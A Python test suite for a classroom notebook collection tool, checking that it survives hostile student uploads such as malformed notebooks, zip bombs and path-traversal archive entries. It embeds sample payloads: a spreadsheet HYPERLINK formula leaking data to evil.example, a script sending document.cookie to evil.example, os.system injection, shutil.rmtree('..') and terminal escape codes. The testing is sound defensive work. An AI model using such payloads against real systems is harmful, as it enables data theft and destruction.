"""The class tools at their edges: hostile uploads, huge downloads, formulas in names, small groups.

Every test here starts from real files in a temporary course folder and runs the
real code (the CLI as a subprocess where a person would use it).
"""

from __future__ import annotations

import copy
import csv
import dataclasses
import json
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pytest

from conftest import read_json, run_cli
from nextround.classroom import generate as classroom

TODAY = date(2026, 10, 5)
ASSIGNMENT = "after-the-no"


def write_roster(path: Path, rows: list[tuple[str, str]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["student_id", "name"])
        writer.writerows(rows)
    return path


def make_course(folder: Path, students: list[tuple[str, str]]) -> Path:
    course = folder / "course"
    result = classroom.generate(write_roster(folder / "roster.csv", students), course, seed=3,
                                assignment_id=ASSIGNMENT, today=TODAY)
    assert not result.failed, result.failed
    return course


@pytest.fixture
def course(tmp_path: Path) -> Path:
    return make_course(tmp_path, [(f"s{n:02d}", f"Student {n}") for n in range(1, 7)])


def released(course: Path, sid: str) -> Path:
    return next((course / "release" / sid).glob("*.ipynb"))


# --- 4. the progress CSV ---------------------------------------------------------------


def test_the_progress_csv_never_holds_a_formula_or_a_control_character(tmp_path: Path) -> None:
    course = make_course(tmp_path, [
        ("s01", '=HYPERLINK("http://evil.example/?leak="&A1,"Marks")'),
        ("s02", "Bo\x1b[2J\x1b[31mExample"),
        ("s03", "@SUM(1+1)"),
        ("s04", "Ann Example"),
    ])
    out = tmp_path / "progress.csv"
    result = run_cli("class", "progress", "--dir", str(course), "-o", str(out))
    assert result.returncode == 0, result.stderr
    text = out.read_text(encoding="utf-8")
    assert "\x1b" not in text
    names = [row["name"] for row in csv.DictReader(text.splitlines())]
    assert names == ['\'=HYPERLINK("http://evil.example/?leak="&A1,"Marks")', "Bo[2J[31mExample", "'@SUM(1+1)",
                     "Ann Example"]


def test_the_journal_csv_export_leaves_control_characters_out(tmp_path: Path) -> None:
    import nextround

    workbook = nextround.new(dir=tmp_path / "wb", company="Acme Analytics", role="Analyst",
                             rejected_on="2026-06-17")
    answers = nextround.open_answers(workbook)
    answers.add_checkin(4, ready=True, note="fine\x1b]0;owned\x07 really\r\nthanks")
    assert run_cli("export", "-o", str(tmp_path / "t"), "--dir", str(tmp_path / "wb")).returncode == 0
    with open(tmp_path / "t" / "checkins.csv", encoding="utf-8", newline="") as f:
        notes = [r["note"] for r in csv.DictReader(f)]
    assert notes == ["fine]0;owned really\nthanks"]


# --- shared: a class with its hand-ins --------------------------------------------------

PRIVATE = "PRIVATE-WORDS-5c1e"  # a student's own words: never in any line we print
GOOD = [f"s{n:02d}" for n in range(1, 6)]  # hand in good work
BAD = "s06"  # hands in only broken files


def as_saved_in_lab(workbook: Path) -> dict:
    """A released workbook as JupyterLab saves it: carrying its answers in an output."""
    nb = read_json(workbook)
    answers = read_json(workbook.with_name(workbook.stem + ".answers.json"))
    carrier = {"output_type": "display_data", "metadata": {},
               "data": {"application/vnd.nextround.answers+json": answers, "text/plain": ""}}
    setup = next(c for c in nb["cells"] if "".join(c["source"]).startswith("# Opening your workbook"))
    setup["outputs"] = [carrier]
    return nb


@pytest.fixture(scope="module")
def handed_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course of six whose students have all written something (made once, copied per test)."""
    from nextround.api import open_answers

    folder = tmp_path_factory.mktemp("class")
    course = make_course(folder, [(sid, f"Student {sid}") for sid in [*GOOD, BAD]])
    for n, sid in enumerate([*GOOD, BAD], 1):
        answers = open_answers(released(course, sid))
        answers.add_checkin(3 + n, ready=True, note=PRIVATE)
        answers.update("reply", draft=f"{PRIVATE} {n}")
        answers.score("preparation", 1 + n % 5)
    return course


def fresh(handed_out: Path, tmp_path: Path, name: str = "course") -> Path:
    return Path(shutil.copytree(handed_out, tmp_path / name))


def good_hand_ins(course: Path, folder: Path) -> Path:
    """The five good students' notebooks (answers inside) and, for some, answers files."""
    folder.mkdir(parents=True, exist_ok=True)
    for n, sid in enumerate(GOOD, 1):
        workbook = released(course, sid)
        (folder / f"{sid} my workbook.ipynb").write_text(json.dumps(as_saved_in_lab(workbook)), "utf-8")
        if n % 2:
            shutil.copy(workbook.with_name(workbook.stem + ".answers.json"), folder / f"{sid}.answers.json")
    return folder


def tree(course: Path) -> dict[str, bytes]:
    """Every file in a course folder, by path: what a collection left there."""
    return {str(p.relative_to(course)): p.read_bytes() for p in sorted(course.rglob("*")) if p.is_file()}


def collect_cli(course: Path, *sources: Path) -> tuple[list[str], subprocess.CompletedProcess]:
    result = run_cli("class", "collect", *map(str, sources), "--dir", str(course))
    assert "Traceback" not in result.stderr, result.stderr
    assert PRIVATE not in result.stdout + result.stderr
    return result.stdout.splitlines(), result


# --- 1. one bad upload never stops the class ---------------------------------------------


def _hostile_notebooks(good: dict) -> dict[str, bytes]:
    """Notebooks that break the shape collect relies on, each in its own way."""

    def variant(change: Callable[[dict], object]) -> bytes:
        nb = copy.deepcopy(good)
        change(nb)
        return json.dumps(nb).encode()

    code = next(i for i, c in enumerate(good["cells"]) if c["cell_type"] == "code")
    return {
        "nextround-is-text": variant(lambda nb: nb["metadata"].__setitem__("nextround", BAD)),
        "nextround-is-a-list": variant(lambda nb: nb["metadata"].__setitem__("nextround", [BAD, ASSIGNMENT])),
        "student-id-is-an-object": variant(lambda nb: nb["metadata"]["nextround"].__setitem__(
            "student_id", {"note": PRIVATE})),
        "cells-are-an-object": variant(lambda nb: nb.__setitem__("cells", {"0": nb["cells"][0]})),
        "a-cell-is-a-number": variant(lambda nb: nb["cells"].__setitem__(2, 7)),
        # Found by tests/test_classroom_properties.py: a list where a cell type belongs.
        "cell-type-is-a-list": variant(lambda nb: nb["cells"][0].__setitem__("cell_type", [])),
        "utf-16": json.dumps(good).encode("utf-16"),
        "source-is-a-number": variant(lambda nb: nb["cells"][code].__setitem__("source", 42)),
        "source-holds-numbers": variant(lambda nb: nb["cells"][code].__setitem__("source", ["x = 1\n", 2])),
        "outputs-are-text": variant(lambda nb: nb["cells"][code].__setitem__("outputs", PRIVATE)),
        "an-output-is-a-list": variant(lambda nb: nb["cells"][code].__setitem__("outputs", [[PRIVATE]])),
        "output-data-is-a-list": variant(lambda nb: nb["cells"][code].__setitem__(
            "outputs", [{"output_type": "display_data", "data": [PRIVATE], "metadata": {}}])),
        "metadata-is-text": variant(lambda nb: nb.__setitem__("metadata", PRIVATE)),
        "nested-too-deep": (
            '{"nbformat": 4, "metadata": {"nextround": {"student_id": "s06"}}, "cells": '
            + "[" * 100_000 + "]" * 100_000 + "}").encode(),
        "a-number-too-long": ('{"nbformat": 4, "nbformat_minor": ' + "7" * 5000 + ', "cells": []}').encode(),
        "nbformat-3": json.dumps({
            "nbformat": 3, "nbformat_minor": 0,
            "metadata": {"nextround": {"student_id": BAD, "assignment_id": ASSIGNMENT}},
            "worksheets": [{"cells": [{"cell_type": "code", "input": "print(1)", "outputs": []}]}]}).encode(),
    }


def test_each_malformed_notebook_is_named_once_and_the_class_is_collected_as_if_it_were_absent(
        handed_out: Path, tmp_path: Path) -> None:
    course, alone = fresh(handed_out, tmp_path), fresh(handed_out, tmp_path, "alone")
    good = good_hand_ins(handed_out, tmp_path / "good")
    bad = _hostile_notebooks(as_saved_in_lab(released(handed_out, BAD)))
    loose = tmp_path / "loose"
    loose.mkdir()
    for name, data in bad.items():
        (loose / f"{name}.ipynb").write_bytes(data)
    archive = tmp_path / "download.zip"
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in bad.items():
            z.writestr(f"Assignment 3/Student 6_1006_assignsubmission_file_/{name}.ipynb", data)
        for path in sorted(good.iterdir()):
            z.write(path, f"Assignment 3/{path.stem}_assignsubmission_file_/{path.name}")

    lines, result = collect_cli(course, archive, loose)
    expected, _ = collect_cli(alone, good)

    entries = [f"{archive} › Assignment 3/Student 6_1006_assignsubmission_file_/{n}.ipynb" for n in bad]
    entries += [str(loose / f"{n}.ipynb") for n in bad]
    for entry in entries:
        named = [line for line in lines if line.startswith(f"unreadable: {entry}: ")]
        assert len(named) == 1, (entry, lines)
    assert len([line for line in lines if line.startswith("unreadable:")]) == len(entries)
    ran = "This run: 5 collected (5 new, 0 updated), 0 held for review, 0 duplicates set aside, 0 unknown"
    assert f"{ran}, {len(entries)} unreadable, 0 unsafe" in lines
    assert f"{ran}, 0 unreadable, 0 unsafe" in expected
    assert expected[-1] == lines[-1] == "Course so far: 5 of 6 collected, 0 late, 0 held for review, 1 missing"
    assert ([line for line in lines if not line.startswith(("unreadable:", "This run:"))]
            == [line for line in expected if not line.startswith("This run:")])
    assert tree(course) == tree(alone)  # everyone else, exactly as if the bad files were not there
    assert result.returncode == 1  # something needs the instructor's attention
    reasons = {line.split(": ", 2)[2] for line in lines if line.startswith("unreadable:")}
    assert "is a version 3 notebook; only version 4 notebooks can be collected (open and save it in JupyterLab)" \
        in reasons
    assert "is nested too deeply to be read" in reasons
    assert not any(reason.startswith("could not be read") for reason in reasons)  # each one understood


def test_a_file_with_a_problem_that_is_also_an_older_copy_is_named_once(handed_out: Path, tmp_path: Path) -> None:
    """Found by tests/test_classroom_properties.py: it was named as unreadable and again as a duplicate."""
    course = fresh(handed_out, tmp_path)
    folder = tmp_path / "hand-ins"
    folder.mkdir()
    for n in (1, 2):
        nb = as_saved_in_lab(released(handed_out, BAD))
        carried = nb["cells"][4]["outputs"][0]["data"]["application/vnd.nextround.answers+json"]
        carried["format"] = "not-ours"  # answers inside that are not valid
        nb["metadata"]["note"] = n  # and two different copies
        (folder / f"copy-{n}.ipynb").write_text(json.dumps(nb), "utf-8")
    lines, _ = collect_cli(course, folder)
    for n in (1, 2):
        assert len([line for line in lines if f"copy-{n}.ipynb" in line]) == 1, lines
    assert len([line for line in lines if line.endswith("; an older copy, set aside")]) == 1


# --- 3. collected copies are rebuilt, never run as handed in ------------------------------


def tampered(workbook: Path) -> dict:
    """A hand-in whose cells were changed to run someone else's code, answers still inside."""
    nb = as_saved_in_lab(workbook)
    injected = next(c for c in nb["cells"] if "injected-parameters" in c["metadata"].get("tags", []))
    injected["source"] = ["company = __import__('os').system('touch PWNED') or 'Acme'\n"]
    setup = next(c for c in nb["cells"] if "".join(c["source"]).startswith("# Opening your workbook"))
    setup["source"] = ["# Opening your workbook and your saved answers\n", "open('PWNED', 'w').write('x')\n"]
    setup["outputs"].append({"output_type": "display_data", "metadata": {},
                             "data": {"text/html": "<script>fetch('https://evil.example/?'+document.cookie)</script>"}})
    nb["cells"].append({"cell_type": "code", "execution_count": None, "metadata": {"tags": []}, "outputs": [],
                        "source": ["import shutil; shutil.rmtree('..')"]})
    return nb


def code_of(nb: dict) -> list[str]:
    return ["".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"]


def test_a_collected_workbook_is_rebuilt_from_our_template_and_the_upload_kept_apart_untouched(
        handed_out: Path, tmp_path: Path) -> None:
    course = fresh(handed_out, tmp_path)
    upload = tmp_path / "hand-in" / "my workbook.ipynb"
    upload.parent.mkdir()
    upload.write_text(json.dumps(tampered(released(course, "s01"))), "utf-8")
    lines, result = collect_cli(course, upload.parent)
    assert result.returncode == 0, lines
    rebuilt = read_json(course / "submitted/s01/s01.ipynb")
    handed = read_json(released(course, "s01"))
    # Our cells only, in our order; nothing the student's copy ran or showed.
    assert code_of(rebuilt) == [code.replace(f"'{ASSIGNMENT}-s01.answers.json'", "'s01.answers.json'")
                                for code in code_of(handed)]
    assert all(not c.get("outputs") for c in rebuilt["cells"])
    assert "PWNED" not in json.dumps(rebuilt) and "evil.example" not in json.dumps(rebuilt)
    parameters = rebuilt["metadata"]["papermill"]["parameters"]
    assert parameters["company"] == handed["metadata"]["papermill"]["parameters"]["company"]
    assert parameters["answers_file"] == "s01.answers.json"  # the answers collected beside it
    assert rebuilt["metadata"]["nextround"]["student_id"] == "s01"
    # What was handed in is kept apart, byte for byte; the answers inside it are collected.
    assert (course / "originals/s01/s01.ipynb").read_bytes() == upload.read_bytes()
    assert read_json(course / "submitted/s01/s01.answers.json")["reply"]["draft"] == f"{PRIVATE} 1"


@pytest.mark.parametrize("spoil", ["no parameters", "company is a list", "an unknown parameter", "another student"])
def test_a_notebook_whose_parameters_cannot_be_validated_is_kept_as_handed_in_only(
        handed_out: Path, tmp_path: Path, spoil: str) -> None:
    course = fresh(handed_out, tmp_path)
    nb = tampered(released(course, "s02"))
    parameters = nb["metadata"]["papermill"]["parameters"]
    if spoil == "no parameters":
        del nb["metadata"]["papermill"]
    elif spoil == "company is a list":
        parameters["company"] = [PRIVATE]
    elif spoil == "an unknown parameter":
        parameters["__import__('os').system('x')"] = 1
    else:
        parameters["student_id"] = "s03"
    upload = tmp_path / "hand-in" / "s02.ipynb"
    upload.parent.mkdir()
    upload.write_text(json.dumps(nb), "utf-8")
    lines, _ = collect_cli(course, upload.parent)
    problem = [line for line in lines if line.startswith(f"unreadable: {upload}: its parameters cannot be used (")]
    assert len(problem) == 1 and problem[0].endswith("kept as handed in under originals/, not rebuilt (student s02)")
    assert not (course / "submitted/s02/s02.ipynb").exists()
    assert (course / "originals/s02/s02.ipynb").read_bytes() == upload.read_bytes()
    assert read_json(course / "submitted/s02/s02.answers.json")["reply"]["draft"] == f"{PRIVATE} 2"


@pytest.mark.slow
def test_opening_a_rebuilt_workbook_runs_only_our_code_and_its_collected_answers(
        handed_out: Path, tmp_path: Path) -> None:
    from nextround.making.run import execute

    course = fresh(handed_out, tmp_path)
    upload = tmp_path / "hand-in" / "s03.ipynb"
    upload.parent.mkdir()
    upload.write_text(json.dumps(tampered(released(course, "s03"))), "utf-8")
    collect_cli(course, upload.parent)
    executed = read_json(execute(course / "submitted/s03/s03.ipynb"))
    assert not list(tmp_path.rglob("PWNED"))
    carried = [o["data"]["application/vnd.nextround.answers+json"] for c in executed["cells"]
               for o in c.get("outputs", []) if "application/vnd.nextround.answers+json" in o.get("data", {})]
    assert carried and carried[-1]["reply"]["draft"] == f"{PRIVATE} 3"  # it opened the answers beside it


# --- 2. memory: a download is read one file at a time, within one budget -----------------


def test_an_archive_over_its_budget_is_refused_whole_in_one_line_and_the_rest_collected(
        handed_out: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from nextround.classroom import collect, uploads

    course = fresh(handed_out, tmp_path)
    good = good_hand_ins(handed_out, tmp_path / "good")
    inner = tmp_path / "inner.zip"
    with zipfile.ZipFile(inner, "w") as z:
        for path in sorted(good.iterdir()):
            z.write(path, path.name)
    outer = tmp_path / "download.zip"
    with zipfile.ZipFile(outer, "w") as z:
        z.write(inner, "Assignment 3/everyone.zip")  # within the budget on its own; not with what is inside
    alone = tmp_path / "s06"
    alone.mkdir()
    (alone / "s06.ipynb").write_text(json.dumps(as_saved_in_lab(released(handed_out, BAD))), "utf-8")
    monkeypatch.setattr(uploads, "MAX_ARCHIVE_BYTES", inner.stat().st_size + 1000)
    roster = [*GOOD, BAD]
    result = collect.collect([outer, alone], roster, ASSIGNMENT, course)
    lines = list(collect.iter_problems(result))
    assert [line for line in lines if str(outer) in line] == [
        f"unreadable: {outer}: unpacks to more than {(inner.stat().st_size + 1000) / 1024**2:.3g} MiB "
        "(the most one download may hold); nothing in it was collected"]
    assert list(result.chosen) == [BAD] and result.missing == GOOD
    assert sorted(p.name for p in (course / "submitted").iterdir()) == [BAD]
    assert not list(course.glob(".collecting-*"))  # the staging folder is gone

    monkeypatch.setattr(uploads, "MAX_ARCHIVE_BYTES", 10**9)
    monkeypatch.setattr(uploads, "MAX_MEMBERS", 4)
    result = collect.collect([outer], roster, ASSIGNMENT, course)
    assert [p.line() for p in result.unreadable] == [
        f"{outer}: holds more than 4 files (the most one download may hold); nothing in it was collected"]


def _peak_mib(command: list[str], limit_gib: int) -> float:
    """The peak resident memory of a command run as its own process, under an address-space limit."""
    import os
    import resource

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit_gib * 1024**3, limit_gib * 1024**3))

    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=limit)
    _, _, usage = os.wait4(process.pid, 0)
    process.returncode = 0  # reaped by wait4 above
    return usage.ru_maxrss / 1024


@pytest.mark.slow
def test_collect_memory_does_not_grow_with_the_members_of_a_download(handed_out: Path, tmp_path: Path) -> None:
    import sys

    # Members of about 300 KB of "{}" cells: each is about 7 MB once parsed, so a
    # collect that held them all would need ten times more for ten times the members.
    meta = read_json(released(handed_out, BAD))["metadata"]
    member = (json.dumps({"metadata": meta, "nbformat": 4, "nbformat_minor": 5})[:-1]
              + ', "cells": [' + ",".join(["{}"] * 100_000) + "]}").encode()
    peaks = {}
    for count in (40, 400):
        archive = tmp_path / f"class-{count}.zip"
        with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as z:
            for n in range(count):
                z.writestr(f"Assignment 3/Student {n}/workbook.ipynb", member)
        course = fresh(handed_out, tmp_path, f"course-{count}")
        peaks[count] = _peak_mib([sys.executable, "-m", "nextround", "class", "collect", str(archive),
                                  "--dir", str(course)], limit_gib=4)
    assert peaks[400] < 1.5 * peaks[40], peaks  # generous slack: a ratio, never an absolute figure


# --- 5. the class report never lets one student's answer be worked out -------------------


@pytest.fixture
def class_of_ten(tmp_path: Path) -> Path:
    return make_course(tmp_path, [(f"t{n:02d}", f"Student {n}") for n in range(1, 11)])


def hand_in(course: Path, sid: str, preparation: int, rapport: int = 3) -> None:
    """A student scores their interview and hands in their answers file."""
    from nextround.api import open_answers
    from nextround.classroom import collect

    answers = open_answers(released(course, sid))
    answers.score("preparation", preparation)
    answers.score("rapport", rapport)
    roster = [s["student_id"] for s in read_json(course / "course.json")["students"]]
    collect.collect([answers.store.path], roster, ASSIGNMENT, course)


def shown(summary: object) -> dict:
    """Every figure the report shows (not how many more hand-ins it waits for)."""
    figures = dataclasses.asdict(summary)
    figures.pop("pending")
    return figures


def test_no_average_over_fewer_than_five_and_every_average_rounded(class_of_ten: Path) -> None:
    from nextround.classroom import report

    for sid, score in zip(["t01", "t02", "t03"], [5, 5, 4]):
        hand_in(class_of_ten, sid, score)
    summary = report.read(class_of_ten)
    assert summary.rubric == {}  # 5, 5 and 4 make 4.7, which only those three scores can
    assert "4.7" not in str(report.rubric(summary).html)
    assert "once at least 5 students share them" in str(report.rubric(summary).html)
    for sid, score in zip(["t04", "t05", "t06"], [5, 5, 4]):
        hand_in(class_of_ten, sid, score)
    summary = report.read(class_of_ten)
    assert summary.rubric["preparation"] == {"n": 6, "mean": 4.5, "distribution": None}  # 4.67, to the half


def test_two_reports_one_hand_in_apart_show_the_same_figures(class_of_ten: Path) -> None:
    from nextround.classroom import report

    for sid, score in zip(["t01", "t02", "t03", "t04", "t05"], [3, 3, 3, 4, 4]):
        hand_in(class_of_ten, sid, score, rapport=score - 1)
    before = report.read(class_of_ten)
    assert before.rubric["preparation"]["mean"] == 3.5 and before.pending == 3
    hand_in(class_of_ten, "t06", 5)  # with exact averages, 3.4 over 5 then 3.67 over 6 says: t06 scored 5
    after = report.read(class_of_ten)
    assert shown(after) == shown(before)
    assert after.pending == 2
    assert "they will update after 2 more" in str(report.overview(after).html)
    hand_in(class_of_ten, "t07", 2)
    hand_in(class_of_ten, "t08", 5)  # three new, answering differently: the figures move on
    refreshed = report.read(class_of_ten)
    assert refreshed.handed_in == 8 and refreshed.pending == 3
    assert refreshed.rubric["preparation"] == {"n": 8, "mean": 3.5, "distribution": None}
    assert refreshed.held == ["rubric:rapport"]  # t06, t07, t08 all gave rapport 3: that would show


def test_a_figure_whose_change_would_show_what_the_newcomers_answered_is_held(class_of_ten: Path) -> None:
    from nextround.classroom import report

    for sid, score in zip(["t01", "t02", "t03", "t04", "t05", "t06"], [2, 2, 2, 4, 4, 4]):
        hand_in(class_of_ten, sid, score, rapport=1 + score)
    first = report.read(class_of_ten)
    assert first.rubric["preparation"] == {"n": 6, "mean": 3.0, "distribution": {1: 0, 2: 3, 3: 0, 4: 3, 5: 0}}
    for sid in ["t07", "t08", "t09"]:
        hand_in(class_of_ten, sid, 5, rapport=2 if sid == "t09" else 4)  # all three scored preparation 5
    second = report.read(class_of_ten)
    assert second.handed_in == 9
    assert second.rubric["preparation"] == first.rubric["preparation"]  # 3 more in the "5" column would say so
    assert second.held == ["rubric:preparation"]
    assert "kept as last updated" in str(report.rubric(second).html)


# --- 7. the hostile corpus, through all three commands ------------------------------------

CORPUS = Path(__file__).parent / "data" / "hostile" / "class"


@pytest.mark.slow
def test_the_hostile_corpus_beside_good_work(tmp_path: Path) -> None:
    from nextround.api import open_answers

    good = [("g1", '=HYPERLINK("http://evil.example","Marks")'), ("g2", "Bo\x1b[31m Example"), ("g3", "Cy Example"),
            ("g4", "Di Example"), ("g5", "Ed Example")]
    course = make_course(tmp_path, [*good, *((f"h{n:02d}", f"Hostile {n}") for n in range(1, 21))])
    hand_ins = tmp_path / "good"
    hand_ins.mkdir()
    for n, (sid, _) in enumerate(good, 1):
        answers = open_answers(released(course, sid))
        answers.add_checkin(n + 3, ready=True, note=PRIVATE)
        answers.update("reply", draft=PRIVATE)
        answers.score("preparation", 1 + n % 3)
        (hand_ins / f"{sid}.ipynb").write_text(json.dumps(as_saved_in_lab(released(course, sid))), "utf-8")
    # The big ones, made here: a zip bomb and a download of more files than one may hold.
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("huge.ipynb", b" " * (60 * 1024 * 1024))
    crowd = tmp_path / "crowd.zip"
    with zipfile.ZipFile(crowd, "w") as z:
        for n in range(20_001):
            z.writestr(f"f{n}.txt", b"")
    corpus = tmp_path / "corpus"
    shutil.copytree(CORPUS, corpus)

    lines, result = collect_cli(course, corpus, hand_ins, bomb, crowd)

    named = {
        **{str(p): 1 for p in corpus.iterdir() if p.suffix in (".ipynb", ".json")},
        **{f"{corpus / 'escapes.zip'} › {m}": 1 for m in ("../../escaped.ipynb", "/absolute.ipynb",
                                                           "C:\\windows\\drive.ipynb")},
        f"{corpus / 'zips-three-deep.zip'} › middle.zip › inner.zip": 1,
        f"{corpus / 'zips-three-deep.zip'} › middle.zip › nested-too-deep.ipynb": 1,
        f"{corpus / 'damaged.zip'} › Student 20_1020/workbook.ipynb": 1,
        str(corpus / "not-a-zip.zip"): 1,
        f"{bomb} › huge.ipynb": 1,
        str(crowd): 1,
    }
    for entry in named:
        assert len([line for line in lines if f": {entry}: " in line]) == 1, (entry, lines)
    assert len([line for line in lines if line.startswith(("unreadable:", "unsafe:", "unknown:", "held:"))]) \
        == len(named)
    assert f"unreadable: {crowd}: holds more than 20,000 files (the most one download may hold); " \
           "nothing in it was collected" in lines
    assert not any("\x1b" in line for line in lines)
    assert result.returncode == 1
    for sid, _ in good:  # everyone else, as if the corpus were not there
        assert read_json(course / f"submitted/{sid}/{sid}.answers.json")["reply"]["draft"] == PRIVATE
    # The notebooks with valid ids but no answers inside are held for review (issue 14: an
    # empty hand-in is not "collected"), never filed, and the files as handed in are kept there.
    assert sorted(p.name for p in (course / "originals").iterdir()) == ["g1", "g2", "g3", "g4", "g5"]
    assert sorted(p.name for p in (course / "held").iterdir()) == ["h09", "h10", "h12", "h13"]
    held = [line for line in lines if line.startswith(f"held: {corpus / 'runs-code.ipynb'}: ")]
    assert len(held) == 1 and "carries no answers" in held[0]

    report = tmp_path / "class.html"
    made = run_cli("class", "report", "--dir", str(course), "-o", str(report))
    assert made.returncode == 0 and "Traceback" not in made.stderr, made.stderr
    page = report.read_text(encoding="utf-8")
    for private in [PRIVATE, "HYPERLINK", "Hostile", "Cy Example", "runs-code"]:
        assert private not in page
    assert "they will update after 3 more" in page
    progress = tmp_path / "progress.csv"
    listed = run_cli("class", "progress", "--dir", str(course), "-o", str(progress))
    assert listed.returncode == 0 and "Traceback" not in listed.stderr
    rows = {row["student_id"]: row for row in csv.DictReader(progress.read_text(encoding="utf-8").splitlines())}
    assert rows["g1"]["name"] == '\'=HYPERLINK("http://evil.example","Marks")' and rows["g2"]["name"] == "Bo[31m Example"
    assert [rows[f"g{n}"]["handed_in"] for n in range(1, 6)] == ["yes"] * 5 and rows["h01"]["handed_in"] == "no"
    # Filed by hand, runs-code.ipynb is rebuilt from the workbook h13 was given: our cells only.
    name = next((course / "held/h13").glob("*.ipynb")).relative_to(course).as_posix()
    filed = run_cli("class", "assign", "--dir", str(course), name, "h13")
    assert filed.returncode == 0 and "Traceback" not in filed.stderr, filed.stderr
    rebuilt = read_json(course / "submitted/h13/h13.ipynb")
    assert "PWNED" not in json.dumps(rebuilt) and all(not c.get("outputs") for c in rebuilt["cells"])
    assert (course / "originals/h13/h13.ipynb").read_bytes() == (corpus / "runs-code.ipynb").read_bytes()
    assert not list(tmp_path.rglob("PWNED")) and not (tmp_path.parent / "escaped.ipynb").exists()
    assert tree(corpus) == tree(CORPUS)  # the sources are read, never changed
